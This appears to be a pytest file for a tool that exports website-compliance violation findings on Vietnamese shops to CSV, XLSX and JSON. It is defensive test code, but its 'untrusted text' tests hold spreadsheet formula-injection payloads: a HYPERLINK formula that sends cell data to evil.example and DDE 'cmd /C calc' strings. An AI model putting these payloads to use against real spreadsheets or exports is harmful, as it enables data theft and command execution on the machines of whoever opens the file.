"""`monitor export`: the violation list read back in each format."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from monitor.outputs.common import OutputError, Period, resolve_province, validate_codes
from monitor.outputs.export import ExportFilter, export_findings, iter_rows
from monitor.outputs.labels import EXPORT_COLUMNS
from monitor.store import open_database
from monitor.store.models import Finding
from tests.conftest import run_cli
from tests.outputs.conftest import World, disclosed, draft, html, utc

HOSTILE = {
    "excerpt": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "owner": "+cmd|' /C calc'!A0",
    "number": "@SUM(1+1)*cmd|' /C calc'!A0",
}
T1 = utc(2026, 3, 1)


def shop(world: World, domain: str = "gomsuan.vn", province: str = "Hải Phòng", **site) -> None:
    """A registered shop checked once, with a missing badge and a missing owner name."""
    world.site(domain, province=province, **site)
    body = html("<footer>Gốm Sứ An — Hotline 0901 234 567</footer>")
    url = f"https://{domain}/"
    world.check(
        domain, T1, pages=[(url, "home", body)],
        drafts=[draft("BADGE_MISSING", url, body), draft("OWNER_NAME_MISSING", url, body, excerpt="Gốm Sứ An — Hotline 0901 234 567")],
        payload=disclosed("Hộ kinh doanh Gốm Sứ An", "01K8035445"),
    )


def export(db, fmt: str, tmp_path: Path, selection: ExportFilter | None = None, lang: str = "vi") -> Path:  # type: ignore[no-untyped-def]
    out = tmp_path / f"findings.{fmt}"
    with db.session() as session:
        export_findings(session, selection or ExportFilter(), fmt, out, lang)
    return out


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def domains(db, selection: ExportFilter) -> list[str]:  # type: ignore[no-untyped-def]
    with db.session() as session:
        return sorted({row.domain for row in iter_rows(session, selection)})


# ---------------------------------------------------------------- formats


def test_csv_starts_with_a_bom_and_reads_back_through_the_csv_module(world, db, tmp_path):
    shop(world)
    path = export(db, "csv", tmp_path)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = read_csv(path)
    assert [r["Mã vi phạm"] for r in rows] == ["BADGE_MISSING", "OWNER_NAME_MISSING"]
    row = rows[1]
    assert row["Tên miền"] == "gomsuan.vn"
    assert row["Chủ sở hữu (theo đăng ký)"] == "Công ty TNHH Gốm Sứ An"
    assert row["Chủ sở hữu (công bố trên website)"] == "Hộ kinh doanh Gốm Sứ An"
    assert row["Mã số DN/MST (công bố trên website)"] == "01K8035445"
    assert row["Hành vi vi phạm"] == "Không công bố tên chủ sở hữu website"
    assert row["Phát hiện lần đầu (giờ VN, UTC+7)"] == "2026-03-01T10:00:00+07:00"
    assert row["Trạng thái"] == "đang vi phạm"
    assert row["Trích đoạn"] == "Gốm Sứ An — Hotline 0901 234 567"
    assert len(row["SHA-256 của trang"]) == 64
    assert row["Hồ sơ trên online.gov.vn"] == "https://online.gov.vn/Home/WebDetails/73995"


def test_lang_en_gives_english_headers_titles_and_labels(world, db, tmp_path):
    shop(world)
    rows = read_csv(export(db, "csv", tmp_path, lang="en"))
    assert rows[0]["Violation"] == "No MOIT badge shown"
    assert rows[0]["Status"] == "open" and rows[0]["Severity"] == "medium"
    assert rows[0]["First seen (Vietnam time, UTC+7)"] == "2026-03-01T10:00:00+07:00"


def test_xlsx_has_a_frozen_header_filters_and_set_column_widths(world, db, tmp_path):
    shop(world)
    sheet = openpyxl.load_workbook(export(db, "xlsx", tmp_path)).worksheets[0]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:V3"
    assert sheet.column_dimensions["B"].width == 26 and sheet.column_dimensions["U"].width == 60
    header = [c.value for c in sheet[1]]
    assert header[:2] == ["Mã phát hiện", "Tên miền"] and len(header) == len(EXPORT_COLUMNS)
    assert [c.value for c in sheet[3]][header.index("Chủ sở hữu (công bố trên website)")] == "Hộ kinh doanh Gốm Sứ An"


def test_json_is_a_list_of_objects_with_stable_keys_and_raw_values(world, db, tmp_path):
    shop(world)
    data = json.loads(export(db, "json", tmp_path).read_text("utf-8"))
    assert isinstance(data, list) and len(data) == 2
    assert list(data[0]) == [
        "finding_id", "domain", "registry_owner_name", "registry_tax_code", "disclosed_owner_name",
        "disclosed_registration_number", "province", "code", "qualifier", "title_vi", "title_en", "severity",
        "regime", "legal_basis", "fine", "first_seen_at", "last_seen_at", "status", "resolved_at",
        "evidence_url", "evidence_sha256", "evidence_excerpt", "portal_record_url",
    ]
    assert data[0]["status"] == "open" and data[0]["severity"] == "medium" and data[0]["resolved_at"] is None
    assert data[0]["first_seen_at"] == "2026-03-01T10:00:00+07:00"


def test_csv_columns_carry_the_same_values_as_the_json_fields(world, db, tmp_path):
    shop(world)
    with db.session() as session:
        row = next(iter_rows(session, ExportFilter()))
    cells = dict(zip((key for key, *_ in EXPORT_COLUMNS), row.cells("en")))
    for key, value in row.to_json().items():
        if key in cells and key not in ("severity", "status", "regime"):
            assert cells[key] == ("" if value is None else str(value)), key


def test_an_empty_export_is_still_a_valid_file_in_each_format(db, tmp_path):
    assert read_csv(export(db, "csv", tmp_path)) == []
    assert json.loads(export(db, "json", tmp_path).read_text("utf-8")) == []
    assert openpyxl.load_workbook(export(db, "xlsx", tmp_path)).worksheets[0].max_row == 1


# ---------------------------------------------------------------- untrusted text


def hostile_shop(world: World) -> None:
    world.site("evil.vn", province="Hà Nội")
    body = html(f"<footer>{HOSTILE['excerpt']}</footer>")
    world.check(
        "evil.vn", T1, pages=[("https://evil.vn/", "home", body)],
        drafts=[
            draft("BADGE_MISSING", "https://evil.vn/", body, excerpt=HOSTILE["excerpt"]),
            draft("OWNER_MISMATCH", "https://evil.vn/", body, excerpt="\t=1+2"),
            draft("POLICY_MISSING", "https://evil.vn/", body, excerpt="\r-1+2", qualifier="privacy"),
            draft("REG_NUMBER_MISSING", "https://evil.vn/", body, excerpt="   =SUM(A1)"),
        ],
        payload=disclosed(HOSTILE["owner"], HOSTILE["number"]),
    )


def test_formula_like_page_text_is_neutralised_in_csv(world, db, tmp_path):
    hostile_shop(world)
    rows = read_csv(export(db, "csv", tmp_path, lang="en"))
    excerpts = {r["Violation code"]: r["Excerpt"] for r in rows}
    assert excerpts["BADGE_MISSING"] == "'" + HOSTILE["excerpt"]
    assert excerpts["OWNER_MISMATCH"] == "'\t=1+2"
    assert excerpts["POLICY_MISSING"] == "'\r-1+2"
    assert excerpts["REG_NUMBER_MISSING"] == "'   =SUM(A1)"
    assert {r["Owner (as disclosed)"] for r in rows} == {"'" + HOSTILE["owner"]}
    assert {r["Enterprise/tax code (as disclosed)"] for r in rows} == {"'" + HOSTILE["number"]}


def test_formula_like_page_text_is_text_not_a_formula_in_xlsx(world, db, tmp_path):
    hostile_shop(world)
    sheet = openpyxl.load_workbook(export(db, "xlsx", tmp_path, lang="en")).worksheets[0]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert "'" + HOSTILE["excerpt"] in texts and "'" + HOSTILE["owner"] in texts
    assert not [t for t in texts if isinstance(t, str) and t[:1] in "=+-@\t\r"]


def test_json_keeps_page_text_exactly_as_found(world, db, tmp_path):
    hostile_shop(world)
    data = json.loads(export(db, "json", tmp_path).read_text("utf-8"))
    assert {d["evidence_excerpt"] for d in data} >= {HOSTILE["excerpt"], "\t=1+2"}
    assert {d["disclosed_owner_name"] for d in data} == {HOSTILE["owner"]}


def test_characters_xml_forbids_do_not_break_an_xlsx_export(world, db, tmp_path):
    world.site("ctrl.vn")
    body = html("x")
    world.check("ctrl.vn", T1, pages=[("https://ctrl.vn/", "home", body)],
                drafts=[draft("BADGE_MISSING", "https://ctrl.vn/", body, excerpt="Công ty\x0b\x1bA")])
    sheet = openpyxl.load_workbook(export(db, "xlsx", tmp_path)).worksheets[0]
    assert sheet.cell(2, 21).value == "Công ty\ufffd\ufffdA"


# ---------------------------------------------------------------- filters


def test_an_old_province_name_selects_the_unit_that_absorbed_it(world, db):
    shop(world, "haiphong.vn", province="Hải Phòng")
    shop(world, "hanoi.vn", province="Hà Nội")
    for name in ("Hải Dương", "Tỉnh Hải Dương", "Hai Phong", "TP. Hải Phòng"):
        assert domains(db, ExportFilter(province=resolve_province(name))) == ["haiphong.vn"], name
    assert domains(db, ExportFilter(province=resolve_province("Hà Nội"))) == ["hanoi.vn"]


def test_an_unknown_province_is_a_clear_error():
    with pytest.raises(OutputError, match="unknown province 'Atlantis'"):
        resolve_province("Atlantis")


def test_a_lookalike_is_listed_under_the_province_of_the_shop_it_imitates(world, db):
    target = world.site("gomsuan.vn", province="Hải Phòng")
    with db.session() as session:
        finding = draft("LOOKALIKE_DOMAIN", "https://gomsuan-sale.com/")
        from monitor.store.findings import apply_findings

        apply_findings(session, domain="gomsuan-sale.com", site_id=target, run_id=None, drafts=[finding], at=T1, scope=())
    assert domains(db, ExportFilter(province="Hải Phòng")) == ["gomsuan-sale.com"]


def test_only_open_findings_are_exported_unless_asked(world, db):
    shop(world)
    body = html("<footer>Công ty TNHH Gốm Sứ An</footer>")
    world.check("gomsuan.vn", T1 + timedelta(days=1), pages=[("https://gomsuan.vn/", "home", body)],
                drafts=[draft("BADGE_MISSING", "https://gomsuan.vn/", body)])
    with db.session() as session:
        open_codes = [r.code for r in iter_rows(session, ExportFilter())]
        resolved = [r for r in iter_rows(session, ExportFilter(statuses=("resolved",)))]
        every = [r.code for r in iter_rows(session, ExportFilter(statuses=()))]
    assert open_codes == ["BADGE_MISSING"]
    assert [r.code for r in resolved] == ["OWNER_NAME_MISSING"] and resolved[0].resolved_at == T1 + timedelta(days=1)
    assert every == ["BADGE_MISSING", "OWNER_NAME_MISSING"]


def test_code_and_domain_filters_narrow_the_list(world, db):
    shop(world, "a.vn")
    shop(world, "b.vn")
    with db.session() as session:
        rows = list(iter_rows(session, ExportFilter(codes=("OWNER_NAME_MISSING",), domain="b.vn")))
    assert [(r.domain, r.code) for r in rows] == [("b.vn", "OWNER_NAME_MISSING")]


def test_an_unknown_code_is_refused_but_a_code_in_the_store_is_accepted(world, db):
    shop(world)
    with db.session() as session:
        assert validate_codes(session, ["badge_missing"]) == ["BADGE_MISSING"]
        with pytest.raises(OutputError, match="unknown violation code BADGE_MISING; did you mean BADGE_MISSING"):
            validate_codes(session, ["BADGE_MISING"])
        session.scalars(select(Finding)).first().code = "NEW_RULE_2027"
        session.flush()
        assert validate_codes(session, ["NEW_RULE_2027"]) == ["NEW_RULE_2027"]


def test_since_and_until_keep_findings_open_during_the_period_in_vietnam_days(world, db):
    shop(world, "march.vn")  # first and last seen 2026-03-01 10:00 Vietnam time
    assert domains(db, ExportFilter(period=Period.parse("2026-03-01", "2026-03-01"))) == ["march.vn"]
    assert domains(db, ExportFilter(period=Period.parse("2026-03-02", None))) == []
    assert domains(db, ExportFilter(period=Period.parse(None, "2026-02-28"))) == []


def test_since_after_until_is_refused():
    with pytest.raises(OutputError, match="--since 2026-04-01 is after --until 2026-03-01"):
        Period.parse("2026-04-01", "2026-03-01")


# ---------------------------------------------------------------- what the row says


def test_disclosed_owner_comes_from_the_latest_checked_observation(world, db):
    world.site("shop.vn")
    body = html("x")
    page = [("https://shop.vn/", "home", body)]
    finding = [draft("BADGE_MISSING", "https://shop.vn/", body)]
    world.check("shop.vn", T1, page, finding, payload=disclosed("Công ty Cũ", "0100109106"))
    world.check("shop.vn", T1 + timedelta(days=1), page, finding, payload=disclosed("Công ty Mới", "0312225168"))
    world.check("shop.vn", T1 + timedelta(days=2), reachable=False)  # unreachable: nothing read
    with db.session() as session:
        row = next(iter_rows(session, ExportFilter()))
    assert (row.disclosed_owner_name, row.disclosed_registration_number) == ("Công ty Mới", "0312225168")


def test_disclosed_fields_are_empty_when_the_observation_holds_none(world, db):
    world.site("bare.vn")
    body = html("x")
    world.check("bare.vn", T1, [("https://bare.vn/", "home", body)], [draft("BADGE_MISSING", "https://bare.vn/", body)], payload={})
    with db.session() as session:
        row = next(iter_rows(session, ExportFilter()))
    assert row.disclosed_owner_name is None and row.disclosed_registration_number is None


def test_the_portal_link_is_built_from_a_uuid_record_id(world, db):
    shop(world, record_id="76BE9E1F-3034-43bf-a3b6-193d8d81904a")
    with db.session() as session:
        row = next(iter_rows(session, ExportFilter()))
    assert row.portal_record_url == "https://online.gov.vn/nen-tang/76be9e1f-3034-43bf-a3b6-193d8d81904a"


def test_without_a_registry_record_the_portal_link_is_the_badge_link_when_it_works(world, db):
    body = html("x")
    link = "https://online.gov.vn/Home/WebDetails/123273"
    world.check("noreg.vn", T1, [("https://noreg.vn/", "home", body)], [draft("UNREGISTERED_SITE", "https://noreg.vn/", body)],
                payload=disclosed(None, None, badge_link=link, linked=True))
    world.check("dead.vn", T1, [("https://dead.vn/", "home", body)], [draft("UNREGISTERED_SITE", "https://dead.vn/", body)],
                payload=disclosed(None, None, badge_link="javascript:void(0)", linked=False))
    with db.session() as session:
        links = {r.domain: r.portal_record_url for r in iter_rows(session, ExportFilter())}
    assert links == {"noreg.vn": link, "dead.vn": None}


# ---------------------------------------------------------------- the command


@pytest.fixture
def cli_db(cli_env):  # type: ignore[no-untyped-def]
    database = open_database(cli_env["MONITOR_DATABASE_URL"])
    yield database
    database.dispose()


@pytest.mark.slow
def test_the_command_exports_a_province_given_by_its_old_name(cli_env, cli_db, tmp_path):
    world = World(cli_db)
    shop(world, "haiphong.vn", province="Hải Phòng")
    shop(world, "hanoi.vn", province="Hà Nội")
    out = tmp_path / "hai-duong.csv"
    result = run_cli(["export", "--format", "csv", "--province", "Hải Dương", "--out", str(out)], cli_env)
    assert result.returncode == 0, result.stderr
    assert "2 findings written to" in result.stderr
    assert {r["Tên miền"] for r in read_csv(out)} == {"haiphong.vn"}


@pytest.mark.slow
def test_the_command_writes_json_to_standard_output(cli_env, cli_db):
    shop(World(cli_db))
    result = run_cli(["export", "--format", "json", "--code", "BADGE_MISSING"], cli_env)
    assert result.returncode == 0, result.stderr
    assert [d["code"] for d in json.load(io.StringIO(result.stdout))] == ["BADGE_MISSING"]


@pytest.mark.slow
def test_the_command_reports_bad_input_in_one_line(cli_env, cli_db, tmp_path):
    for args, message in [
        (["--province", "Atlantis"], "unknown province 'Atlantis'"),
        (["--code", "NOPE"], "unknown violation code NOPE"),
        (["--since", "2026-05-01", "--until", "2026-04-01"], "is after --until"),
        (["--format", "xlsx"], "give --out FILE"),
        (["--out", str(tmp_path / "missing" / "x.csv")], "cannot write"),
    ]:
        result = run_cli(["export", *args], cli_env)
        assert result.returncode != 0, args
        assert message in result.stderr and len(result.stderr.strip().splitlines()) == 1, result.stderr
